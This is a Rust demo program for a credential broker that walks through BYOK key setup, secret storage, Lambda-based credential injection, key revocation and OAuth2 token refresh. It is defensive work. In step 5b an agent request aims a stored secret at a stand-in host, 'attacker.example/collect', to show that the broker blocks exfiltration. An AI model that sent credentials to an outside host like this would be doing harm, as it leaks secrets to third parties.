//! The README demo: the whole BYOK story against the local AWS stack, with
//! each step printed. Credentials are never printed, only their length. The
//! key-policy step relies on the stack's IAM front (`localstack/iam-front/`),
//! which enforces key policies as KMS does.

// Test and demo code: a panic is how it reports failure.
#![allow(clippy::unwrap_used)]

use std::time::Instant;

use broker_core::{SecretName, SecretValue, WorkspaceId};
use keybroker_contract as wire;
use keybroker_tests::lambda_env::{LambdaEnv, Upstream};
use keybroker_tests::{setup, unique, BrokerAccess, Customer};
use serde_json::json;

/// First four characters, then stars: enough to recognise, never the secret.
fn masked(s: &str) -> String {
    format!("{}…({} chars)", &s[..s.len().min(4)], s.len())
}

fn step(n: impl std::fmt::Display, text: &str) {
    println!("\n[{n}] {text}");
}

fn show_list(list: &[broker_core::SecretMetadata]) {
    for m in list {
        println!(
            "    {:<14} v{} {:<8} {} status={}",
            m.name,
            m.version,
            m.key_mode.as_str(),
            m.key_arn,
            serde_json::to_string(&m.status).unwrap_or_default()
        );
    }
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let env = setup().await;
    println!(
        "keybroker demo: broker account 111111111111, platform key {}",
        env.platform_key_arn
    );

    let ws = WorkspaceId::new(unique("acme"))?;
    step(1, &format!("operator prepares BYOK for workspace {ws}"));
    let settings = env.broker.prepare_byok(&ws).await?;
    println!(
        "    external id for the customer's trust policy: {}",
        settings.external_id
    );

    step(
        2,
        "customer applies terraform/ (rendered key policy + trust policy) in their own account",
    );
    let customer = Customer::create(&ws, &settings.external_id).await;
    println!(
        "    role_arn = {}\n    key_arn  = {}",
        customer.role_arn, customer.key_arn
    );

    step(
        3,
        "operator pastes the ARNs: enable BYOK (verified by a canary round trip)",
    );
    env.broker
        .enable_byok(&ws, &customer.role_arn, &customer.key_arn, None)
        .await?;
    let report = env.broker.verify_byok(&ws).await?;
    println!("    {}", report.hint);

    step(
        4,
        "store a credential: envelope-encrypted under the customer's key",
    );
    let name = SecretName::new("github-token")?;
    let value = SecretValue::from_string(format!("ghp_{}", unique("demo")))?;
    env.broker.put_secret(&ws, &name, &value).await?;
    show_list(&env.broker.list_secrets(&ws).await?);

    step(
        5,
        "read it for one injection (kms:Decrypt in the customer's account)",
    );
    let before = env.broker.aws_calls();
    let got = env.broker.read_plaintext(&ws, &name).await?;
    let calls = env.broker.aws_calls() - before;
    println!(
        "    decrypted {} bytes (never printed); AWS calls: dynamodb={} kms={} sts={}",
        got.value.len(),
        calls.dynamodb,
        calls.kms,
        calls.sts
    );
    drop(got);

    step(
        "5b",
        "an agent makes a request through the real `inject` Lambda (lambda-runner + aws-sdk-lambda)",
    );
    let upstream = Upstream::start().await;
    let lambda = LambdaEnv::start(&env).await;
    let api_key = format!("ghp_{}", unique("demo-api"));
    let binding = serde_json::from_value(json!({
        "hosts": [upstream.addr.to_string()], "allow_insecure_http": true,
        "inject": { "type": "header", "name": "Authorization", "template": "Bearer {secret}" }
    }))?;
    let api = SecretName::new("github-api")?;
    env.broker
        .put_bound_secret(
            &ws,
            &api,
            &SecretValue::from_string(api_key.clone())?,
            &binding,
        )
        .await?;
    env.broker
        .set_policy(
            &ws,
            r#"permit(principal == Agent::"agent-7", action == Action::"inject", resource == Secret::"github-api");"#,
        )
        .await?;
    let event = json!({ "workspace": ws.as_str(), "secret": "github-api", "agent": "agent-7",
        "request": { "method": "GET", "url": format!("{}/echo", upstream.base()) } });
    println!("    agent sends: {event}");
    let answer = lambda.invoke("inject", &event).await;
    let seen = upstream.records();
    let auth = seen[0].header("authorization").unwrap_or_default();
    println!(
        "    upstream received Authorization: Bearer {}",
        masked(auth.trim_start_matches("Bearer "))
    );
    println!(
        "    the upstream echoed it; the agent gets status {} and, instead of headers and body, {}",
        answer["status"], answer["withheld"]
    );
    if answer.to_string().contains(&api_key) {
        return Err("the credential reached the agent".into());
    }
    if let Some(a) = lambda.audit_records().last() {
        println!("    audit record: {a}");
    }
    let denied = lambda
        .invoke(
            "inject",
            &json!({ "workspace": ws.as_str(), "secret": "github-api", "agent": "agent-7",
                 "request": { "method": "GET", "url": "https://attacker.example/collect" } }),
        )
        .await;
    println!(
        "    the same agent pointing the secret at another host: {}",
        denied["error"]
    );

    step(6, "customer disables their key");
    customer.disable_key().await;
    match env.broker.read_plaintext(&ws, &name).await {
        Ok(_) => return Err("read succeeded after the key was disabled".into()),
        Err(e) => println!("    next read fails: [{}] {e}", e.kind()),
    }
    let revoked = lambda.invoke("inject", &event).await;
    println!("    and the agent's next injection: {}", revoked["error"]);
    lambda.stop().await;
    println!("    the broker's metadata still lists the affected secrets:");
    show_list(&env.broker.list_secrets(&ws).await?);

    step(
        7,
        "customer re-enables the key: access returns without re-provisioning",
    );
    customer.enable_key().await;
    let got = env.broker.read_plaintext(&ws, &name).await?;
    println!("    decrypted {} bytes again", got.value.len());
    drop(got);
    refresh_statuses(&env, &ws).await?;

    step(
        8,
        "customer sets broker_access = \"revoked\": an explicit Deny in their key policy (PutKeyPolicy)",
    );
    customer.set_broker_access(BrokerAccess::Revoked).await;
    let revoked_at = Instant::now();
    match env.broker.read_plaintext(&ws, &name).await {
        Ok(_) => return Err("read succeeded after the revocation Deny was applied".into()),
        Err(e) => println!(
            "    next read fails {:.0} ms after PutKeyPolicy returned: [{}] {e}",
            revoked_at.elapsed().as_secs_f64() * 1000.0,
            e.kind()
        ),
    }
    println!("    the broker's metadata still lists the affected secret:");
    show_list(&env.broker.list_secrets(&ws).await?);

    step(
        9,
        "customer sets broker_access = \"enabled\": access returns without re-provisioning",
    );
    customer.set_broker_access(BrokerAccess::Enabled).await;
    let got = env.broker.read_plaintext(&ws, &name).await?;
    println!("    decrypted {} bytes again", got.value.len());
    drop(got);
    refresh_statuses(&env, &ws).await?;

    oauth2_steps(&env, &ws, &customer, &upstream).await?;

    println!("\ndemo complete");
    Ok(())
}

/// After access is restored: the statuses are what the broker last saw
/// (revoked), until the operator's check (`keybroker check-workspace`, the
/// admin `check_workspace` op; the scheduled check does the same) probes the
/// key again and writes what it finds.
async fn refresh_statuses(
    env: &keybroker_tests::Env,
    ws: &WorkspaceId,
) -> Result<(), Box<dyn std::error::Error>> {
    let report = env.broker.check_workspace(ws).await?;
    println!(
        "    operator runs check-workspace: {} active, {} revoked, {} status(es) changed",
        report.active, report.revoked, report.changed
    );
    if report.revoked != 0 {
        return Err("a secret is still revoked after access was restored".into());
    }
    show_list(&env.broker.list_secrets(ws).await?);
    Ok(())
}

/// Steps 10-13: an OAuth 2.0 secret against the stack's real authorization
/// server (oidc-provider): connected by the code flow without the platform
/// seeing a token, used, refreshed by the broker, and stopped by the switch.
async fn oauth2_steps(
    env: &keybroker_tests::Env,
    ws: &WorkspaceId,
    customer: &Customer,
    upstream: &Upstream,
) -> Result<(), Box<dyn std::error::Error>> {
    let oauth = keybroker_tests::oauth::OAuthServer::connect().await;
    let lambda = LambdaEnv::start(env).await;
    let account = unique("demo-user");
    // Short-lived access tokens for this user, so the demo sees a refresh.
    oauth.set_access_token_ttl(&account, 4).await;
    step(
        10,
        "connect an OAuth 2.0 secret: admin start_oauth2 returns the URL (PKCE S256 + state)",
    );
    let client = lambda.client();
    let mut binding = wire::Binding::new(
        vec![upstream.addr.to_string()],
        wire::Injection::Header {
            name: "Authorization".into(),
            template: "Bearer {secret}".into(),
        },
    );
    binding.oauth2 = Some(wire::OAuth2Binding {
        token_endpoint: oauth.token_endpoint(),
        client_id: oauth.client_id.clone(),
        scope: None,
    });
    let started = client
        .admin(&wire::admin::StartOauth2 {
            workspace: ws.to_string(),
            secret: "calendar".into(),
            binding,
            authorization_endpoint: format!("{}/auth", oauth.base),
            redirect_uri: oauth.redirect_uri.clone(),
            scope: Some("openid api".into()),
            client_secret: Some(wire::admin::SecretText::new(oauth.client_secret.clone())),
        })
        .await?
        .value;
    let url = started.authorization_url;
    println!("    send the user to: {}…", &url[..url.len().min(80)]);
    let back = oauth.follow(&format!("{url}&login_hint={account}")).await;
    let param = |name: &str| {
        back.iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.clone())
            .ok_or(format!("the provider's redirect has no {name}"))
    };
    let meta = client
        .admin(&wire::admin::CompleteOauth2 {
            workspace: ws.to_string(),
            secret: "calendar".into(),
            code: wire::admin::SecretText::new(param("code")?),
            state: param("state")?,
        })
        .await?
        .value;
    println!(
        "    complete_oauth2: the broker exchanged the code itself; stored v{} under {}",
        meta.version, meta.key_arn
    );
    env.broker
        .set_policy(
            ws,
            r#"permit(principal == Agent::"agent-7", action == Action::"inject", resource);"#,
        )
        .await?;
    let event = wire::InjectEvent {
        workspace: ws.to_string(),
        secret: "calendar".into(),
        agent: "agent-7".into(),
        request: wire::UpstreamRequest {
            method: "GET".into(),
            url: format!("{}/events", upstream.base()),
            ..Default::default()
        },
    };
    let status = |r: wire::InjectReply| r.status.map_or("none".to_owned(), |s| s.to_string());
    let bearer = || {
        upstream
            .records()
            .last()
            .and_then(|r| {
                r.header("authorization")
                    .map(|a| masked(a.trim_start_matches("Bearer ")))
            })
            .unwrap_or_default()
    };

    step(
        11,
        "the agent injects as before: the broker sends the cached access token",
    );
    let r = client.inject(&event).await?.value;
    println!("    status {}; upstream got Bearer {}", status(r), bearer());

    step(
        12,
        "the access token expires: the broker refreshes it once, rotating the refresh token",
    );
    tokio::time::sleep(std::time::Duration::from_secs(4)).await;
    let r = client.inject(&event).await?.value;
    println!(
        "    status {}; upstream got Bearer {}; the provider saw {} refresh(es)",
        status(r),
        bearer(),
        oauth.refreshes(&account).await
    );

    step(
        13,
        "customer sets broker_access = \"revoked\": injection and refresh both stop",
    );
    customer.set_broker_access(BrokerAccess::Revoked).await;
    tokio::time::sleep(std::time::Duration::from_secs(4)).await;
    let refused = match client.inject(&event).await {
        Ok(_) => return Err("the injection succeeded after the revocation".into()),
        Err(e) => e
            .error_type()
            .map_or("no answer", |t| t.as_str())
            .to_owned(),
    };
    println!(
        "    {refused}; the provider still saw {} refresh(es)",
        oauth.refreshes(&account).await
    );
    customer.set_broker_access(BrokerAccess::Enabled).await;
    lambda.stop().await;
    Ok(())
}
